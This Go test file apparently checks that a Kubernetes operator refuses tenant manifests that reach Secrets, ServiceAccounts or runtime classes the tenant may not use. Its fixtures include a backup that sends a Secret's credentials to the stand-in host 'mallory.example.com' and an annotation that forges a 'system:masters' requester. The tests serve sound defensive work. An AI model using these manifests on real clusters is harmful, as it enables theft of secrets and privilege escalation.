// Copyright The opcrew Authors.
// SPDX-License-Identifier: Apache-2.0

//go:build attack

package attack

import (
	"strings"

	corev1 "k8s.io/api/core/v1"
	nodev1 "k8s.io/api/node/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
)

// payroll creates a Secret in the tenant's namespace that the tenant has no right to read.
func payroll(w *world) {
	secret := &corev1.Secret{StringData: map[string]string{
		"password": "s3cret", "config": "A=1", "htpasswd": "u:{SHA}x", "credentials": "x", "username": "u", "ssh-privatekey": "x", "ssh-publickey": "x",
	}}
	secret.Namespace, secret.Name = w.ns, "payroll"
	w.create(secret)
}

// payrollAndClaim creates the Secret of payroll and a PersistentVolumeClaim for backups.
func payrollAndClaim(w *world) {
	payroll(w)
	w.has(`{apiVersion: v1, kind: PersistentVolumeClaim, metadata: {name: c}, spec: {accessModes: [ReadWriteOnce], resources: {requests: {storage: 1Gi}}}}`)
}

// powerful creates a ServiceAccount in the tenant's namespace that has more rights than the tenant.
func powerful(w *world) {
	account := &corev1.ServiceAccount{}
	account.Namespace, account.Name = w.ns, "deployer"
	w.create(account)
}

// sandbox creates a RuntimeClass that the tenant has no right to use.
func sandbox(w *world) {
	class := &nodev1.RuntimeClass{Handler: "runc"}
	class.Name = "for-others"
	if err := w.admin.Create(w.Context(), class); err != nil && !apierrors.IsAlreadyExists(err) {
		w.Fatal(err)
	}
}

// requesterAttacks returns attacks in which a pod would use an object to which the tenant has no right.
func requesterAttacks() []attack {
	uses := func(name, source, manifest, of string, before func(*world)) attack {
		return attack{name: name, source: source, item: 4, needs: requester, before: before, manifest: manifest,
			refused: []string{of}, stops: &report{"RequesterMayNot", []string{of}}, harm: aPodMentions(of)}
	}
	pull := "imagePullSecrets: [{name: payroll}]"
	secretEnv := `[{name: X, valueFrom: {secretKeyRef: {name: payroll, key: password}}}]`
	return []attack{
		uses("env of an AppService from a Secret", "review 4, OWASP K08", app("envs: "+secretEnv), "payroll", payroll),
		uses("env of a microservice from a Secret", "review 4, OWASP K08", micro("envs: "+secretEnv), "payroll", payroll),
		uses("env of a Diva from a Secret", "review 4, OWASP K08", system("env: "+secretEnv, ""), "payroll", payroll),
		uses("env of Redis from a Secret", "review 4, OWASP K08", redisPod("extraEnvVars: "+secretEnv), "payroll", payroll),
		uses("env of etcd from a Secret", "review 4, OWASP K08", etcdWith("pod: {etcdEnv: "+secretEnv+"}"), "payroll", payroll),
		uses("envFrom a Secret in a side container", "OWASP K08", redisWith("envFrom: [{secretRef: {name: payroll}}]"), "payroll", payroll),
		uses("a volume of a Secret", "OWASP K08", redisPod("volumes: [{name: v, secret: {secretName: payroll}}]"), "payroll", payroll),
		uses("a projected volume of a Secret", "OWASP K08", redisPod("volumes: [{name: v, projected: {sources: [{secret: {name: payroll}}]}}]"), "payroll", payroll),
		uses("a token of the ServiceAccount for another audience", "OWASP K06", redisPod("volumes: [{name: vault-token, projected: {sources: [{serviceAccountToken: {audience: vault, path: t}}]}}]"), "vault-token", nil),
		uses("an image pull Secret", "OWASP K08", micro("imagePullSecrets: [{name: payroll}]"), "payroll", payroll),
		uses("an image pull Secret in the pods of a microservice", "OWASP K08", micro("pod: {"+pull+"}"), "payroll", payroll),
		uses("an image pull Secret of an AppService", "OWASP K08", app("pod: {"+pull+"}"), "payroll", payroll),
		uses("an image pull Secret of a Memcached", "OWASP K08", cacheWith("pod: {"+pull+"}"), "payroll", payroll),
		uses("an image pull Secret of a Diva's clients", "OWASP K08", system("pod: {"+pull+"}", ""), "payroll", payroll),
		uses("an image pull Secret of a Diva's manager", "OWASP K08", strings.Replace(system("", ""), "manager: {", "manager: {pod: {"+pull+"}, ", 1), "payroll", payroll),
		uses("an image pull Secret of Redis", "OWASP K08", redisPod("pullSecrets: [{name: payroll}]"), "payroll", payroll),
		uses("an image pull Secret of a backup", "OWASP K08", backup("storageType: S3, s3: {path: b/k}, pod: {"+pull+"}"), "payroll", payroll),
		uses("a certificate of the status page of Redis", "OWASP K08", redisPod("certificates: {cmCertificateSecretName: payroll}"), "payroll", payroll),
		uses("configuration from a Secret", "OWASP K08", micro("configFrom: {secretRef: {name: payroll}}"), "payroll", payroll),
		uses("a ServiceAccount", "review 4, OWASP K03", app("pod: {serviceAccountName: deployer}"), "deployer", powerful),
		uses("a ServiceAccount of Redis", "OWASP K03", redisPod("serviceAccountName: deployer"), "deployer", powerful),
		uses("a system priority class", "review 4, OWASP K04", app("pod: {priorityClassName: system-node-critical}"), "system-node-critical", nil),
		uses("a RuntimeClass", "OWASP K04", app("pod: {runtimeClassName: for-others}"), "for-others", sandbox),
		uses("credentials of a backup to an endpoint of the tenant", "OWASP K08, CVE-2022-24348 (Argo CD: Secrets of others by a path of the user)",
			backup(`storageType: S3, s3: {path: b/k, awsSecret: payroll, endpoint: "https://mallory.example.com"}`), "payroll", payroll),
		uses("a client certificate of a backup", "OWASP K08", backup(`storageType: PVC, pvc: {claimName: c, path: k}, clientTLSSecret: payroll`), "payroll", payrollAndClaim),
		{name: "a forged requester", source: "OWASP K03", item: 4, needs: requester, before: powerful,
			manifest: `
apiVersion: app.example.com/v1
kind: AppService
metadata:
  name: web
  annotations: {opcrew.io/requester: '{"username":"system:admin","groups":["system:masters"]}'}
spec: {image: "nginx:1.26", pod: {serviceAccountName: deployer}}
`,
			refused: []string{"deployer"}, stops: &report{"RequesterMayNot", []string{"deployer"}}, harm: aPodMentions("deployer")},
	}
}

// backup returns the manifest of an EtcdBackup with additional fields in its spec.
func backup(fields string) string { return backupTo(`"http://store:2379"`, fields) }

// backupTo returns the manifest of an EtcdBackup for the given etcd endpoints. Without fields, the backup is stored on
// a volume.
func backupTo(endpoints string, fields ...string) string {
	if len(fields) == 0 {
		fields = []string{`storageType: PVC, pvc: {claimName: c, path: k}`}
	}
	return `
apiVersion: etcd.database.coreos.com/v1beta2
kind: EtcdBackup
metadata: {name: save}
spec: {etcdEndpoints: [` + endpoints + `], ` + fields[0] + `}
`
}
